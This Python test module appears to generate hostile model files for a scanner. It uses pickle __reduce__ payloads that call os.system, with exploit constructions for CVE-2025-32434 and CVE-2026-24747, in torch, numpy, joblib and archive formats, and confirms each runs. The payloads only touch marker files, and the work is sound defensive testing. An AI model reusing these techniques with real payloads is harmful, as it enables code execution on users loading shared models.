"""Files that act when they are loaded, which tare must find and never do.

Each is loaded by its real loader here. Where the payload needs no weakness of a certain version it
must run, or the file would prove nothing; the mark that it leaves is taken away again.
"""

import io
import json
import os
import pickle
import stat
import tarfile
import zipfile

import numpy
import torch

import kinds_legacy
from kinds import kind, load_torch
from opcodes import (
    PROTO_2, dict_of, integer, name, new, persistent, stream, text, tuple_of, with_state)

CALL = r"(posix|os)\.system"


class Mark:
    """Whoever unpickles it runs a command that makes a file."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def marker(k):
    return os.path.join(k.folder, k.name + ".ran")


def attempt(load):
    """A loader may well fail once the payload has run."""
    try:
        load()
    except Exception:
        pass


def acts(k, load):
    """Loads the file, and tells whether the mark was left; takes it away."""
    attempt(load)
    if not os.path.exists(marker(k)):
        return False
    os.remove(marker(k))
    return True


def runs(k, load, *words):
    """A file that acts with every version of its loader."""
    assert acts(k, load), "the payload does not run"
    k.hostile(*words, acted=True, watch=marker(k))


def put(k, data, suffix=".pt"):
    with open(k.path(suffix), "wb") as file:
        file.write(data)


# ---- CVE-2025-32434: torch.load(weights_only=True) up to 2.5.1

# The loader takes __setstate__ only from a class that has __getstate__ too.
SCRIPT = """class Model(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def __getstate__(self: __torch__.Model) -> int:
    return 1
  def __setstate__(self: __torch__.Model,
    state: int) -> NoneType:
    self.training = False
    _0 = torch.save(torch.ones([1]), "%s")
    return None
"""


@kind("hostile.cve_2025_32434_script")
def cve_2025_32434_script(k):
    """A TorchScript archive, to which weights_only did not apply, writes a file on BUILD."""
    data = stream(with_state(new(name("__torch__", "Model")), integer(1)))
    with zipfile.ZipFile(k.path(), "w") as archive:
        archive.writestr("m/data.pkl", data)
        archive.writestr("m/code/__torch__.py", SCRIPT % marker(k))
        archive.writestr("m/constants.pkl", PROTO_2 + b").")
        archive.writestr("m/version", "3\n")
    acted = acts(k, lambda: torch.load(k.path(), weights_only=True))
    assert acts(k, lambda: torch.jit.load(k.path())), "the payload does not run"
    k.hostile("CVE-2025-32434", "torch.save", acted=acted, watch=marker(k))


@kind("hostile.cve_2025_32434_tar")
def cve_2025_32434_tar(k):
    """A member of the old tar format that is a hard link to a file of the user: unpacking it
    changes the mode of that file."""
    victim = os.path.join(k.folder, k.name + ".victim")
    with open(victim, "w", encoding="ascii") as file:
        file.write("private")
    os.chmod(victim, 0o600)
    with tarfile.open(k.path(), "w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("storages")
        info.type, info.linkname, info.mode = tarfile.LNKTYPE, victim, 0o777
        archive.addfile(info)
        for member in ("sys_info", "tensors", "pickle"):
            info = tarfile.TarInfo(member)
            info.size = 4
            archive.addfile(info, io.BytesIO(pickle.dumps(0, 2)[:4]))
    attempt(lambda: torch.load(k.path(), weights_only=True))
    acted = stat.S_IMODE(os.stat(victim).st_mode) != 0o600
    os.chmod(victim, 0o600)
    k.hostile("link", acted=acted, watch=victim)


# ---- CVE-2026-24747: torch.load(weights_only=True) up to 2.9.1


def _zip(k, data_pkl, records):
    with zipfile.ZipFile(k.path(), "w") as archive:
        archive.writestr("m/data.pkl", data_pkl)
        for record, data in records.items():
            archive.writestr(f"m/{record}", data)
        archive.writestr("m/version", "3\n")


def _tensor(numel):
    storage = persistent(tuple_of(
        text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(numel)))
    return kinds_legacy.rebuilt(storage, 0, (numel,), (1,))


def _restricted(k):
    try:
        return torch.load(k.path(), weights_only=True)
    except Exception:
        return None


@kind("hostile.cve_2026_24747_setitem")
def cve_2026_24747_setitem(k):
    """SETITEM on a tensor: the pickle writes into its memory."""
    assigned = _tensor(4) + integer(0) + integer(9) + b"s"
    _zip(k, stream(dict_of((text("w"), assigned))), {"data/0": bytes(16)})
    loaded = _restricted(k)
    k.hostile("CVE-2026-24747|stores items", acted=loaded is not None and bool(loaded["w"][0] == 9))


@kind("hostile.cve_2026_24747_size")
def cve_2026_24747_size(k):
    """A storage of 64 floats from a record of 16 bytes: the rest is foreign memory."""
    _zip(k, stream(dict_of((text("w"), _tensor(64)))), {"data/0": bytes(16)})
    loaded = _restricted(k)
    k.hostile("CVE-2026-24747", acted=loaded is not None and loaded["w"].numel() == 64)


# ---- a call in each place that some loader unpickles


@kind("hostile.zip")
def in_zip(k):
    torch.save({"w": torch.ones(2), "hook": Mark(marker(k))}, k.path())
    runs(k, lambda: load_torch(k.path()), CALL)


@kind("hostile.module")
def in_module(k):
    layer = torch.nn.Linear(2, 2)
    layer.hook = Mark(marker(k))
    torch.save({"model": layer}, k.path())
    runs(k, lambda: load_torch(k.path()), CALL)


def _stacked_with(number):
    @kind(f"hostile.legacy_pickle_{number}")
    def in_stacked_pickle(k):
        parts = [pickle.dumps(v, 2) for v in (kinds_legacy.MAGIC, 1001, {}, {"w": 1}, [])]
        parts[number - 1] = pickle.dumps(Mark(marker(k)), 2)
        put(k, b"".join(parts))
        runs(k, lambda: load_torch(k.path()), CALL)


for _number in (1, 2, 3, 4, 5):
    _stacked_with(_number)


def _tar_with(member):
    @kind(f"hostile.legacy_tar_{member}")
    def in_tar(k):
        members = dict.fromkeys(("sys_info", "pickle", "tensors", "storages"), b"")
        for part in members:
            members[part] = pickle.dumps(Mark(marker(k)) if part == member else 0, 2)
        members["storages"] += pickle.dumps([], 2)
        put(k, kinds_legacy.tar_of(members.items()))
        runs(k, lambda: load_torch(k.path()), CALL)


for _member in ("pickle", "tensors", "storages"):
    _tar_with(_member)


@kind("hostile.legacy_inside_a_pickle")
def inside_a_pickle(k):
    """The bytes of a storage are a file of torch, which a call of torch loads."""
    inner = io.BytesIO()
    torch.save(Mark(marker(k)), inner, _use_new_zipfile_serialization=False)

    class Storage:
        def __reduce__(self):
            return torch.storage._load_from_bytes, (inner.getvalue(),)

    put(k, pickle.dumps({"w": Storage()}, 4), ".pkl")

    def load():
        with open(k.path(".pkl"), "rb") as file:
            pickle.load(file)

    runs(k, load, CALL)


@kind("hostile.shard")
def in_shard(k):
    folder = k.path("")
    os.makedirs(folder)
    torch.save({"w": torch.ones(2), "x": Mark(marker(k))}, os.path.join(folder, "a.bin"))
    with open(os.path.join(folder, "model.bin.index.json"), "w", encoding="ascii") as file:
        json.dump({"metadata": {}, "weight_map": {"w": "a.bin"}}, file)
    k.inside("a.bin")
    runs(k, lambda: load_torch(os.path.join(folder, "a.bin")), CALL)


@kind("hostile.distributed", since=(2, 2))
def in_distributed(k):
    """The directory of a distributed checkpoint is a pickle."""
    import torch.distributed.checkpoint as dcp

    folder = k.path("")
    dcp.save({"w": torch.ones(2)}, checkpoint_id=folder)
    with open(os.path.join(folder, ".metadata"), "wb") as file:
        pickle.dump(Mark(marker(k)), file)
    runs(k, lambda: dcp.FileSystemReader(folder).read_metadata(), CALL)


@kind("hostile.export_inputs", since=(2, 7))
def in_export_inputs(k):
    """The example inputs of an exported program are a file of torch.save."""
    program = io.BytesIO()
    torch.export.save(torch.export.export(torch.nn.Linear(2, 2), (torch.ones(1, 2),)), program)
    evil = io.BytesIO()
    torch.save(Mark(marker(k)), evil)
    with zipfile.ZipFile(program) as source, zipfile.ZipFile(k.path(".pt2"), "w") as target:
        for record in source.infolist():
            is_inputs = "/sample_inputs/" in record.filename
            target.writestr(record, evil.getvalue() if is_inputs else source.read(record))
    runs(k, lambda: torch.export.load(k.path(".pt2")), CALL)


@kind("hostile.archive")
def in_archive(k):
    inner = io.BytesIO()
    torch.save({"w": torch.ones(2), "x": Mark(marker(k))}, inner)
    with tarfile.open(k.path(".nemo"), "w:gz") as archive:
        info = tarfile.TarInfo("./model_weights.ckpt")
        info.size = len(inner.getvalue())
        archive.addfile(info, io.BytesIO(inner.getvalue()))

    def load():
        with tarfile.open(k.path(".nemo")) as archive:
            load_torch(io.BytesIO(archive.extractfile("./model_weights.ckpt").read()))

    runs(k, load, CALL)


def marked_array(k):
    return numpy.array([Mark(marker(k)), None], dtype=object)


@kind("hostile.npy")
def in_npy(k):
    numpy.save(k.path(".npy"), marked_array(k), allow_pickle=True)
    runs(k, lambda: numpy.load(k.path(".npy"), allow_pickle=True), CALL)


@kind("hostile.npz")
def in_npz(k):
    numpy.savez_compressed(k.path(".npz"), w=numpy.ones(2), o=marked_array(k))
    runs(k, lambda: numpy.load(k.path(".npz"), allow_pickle=True)["o"], CALL)


def _joblib(label, **options):
    @kind(f"hostile.joblib_{label}", needs=["joblib"])
    def in_joblib(k):
        import joblib

        content = {"w": numpy.ones(2), "o": marked_array(k), "last": numpy.zeros(3)}
        joblib.dump(content, k.path(".joblib"), **options)
        runs(k, lambda: joblib.load(k.path(".joblib")), CALL)


_joblib("raw")
_joblib("compressed", compress=3)
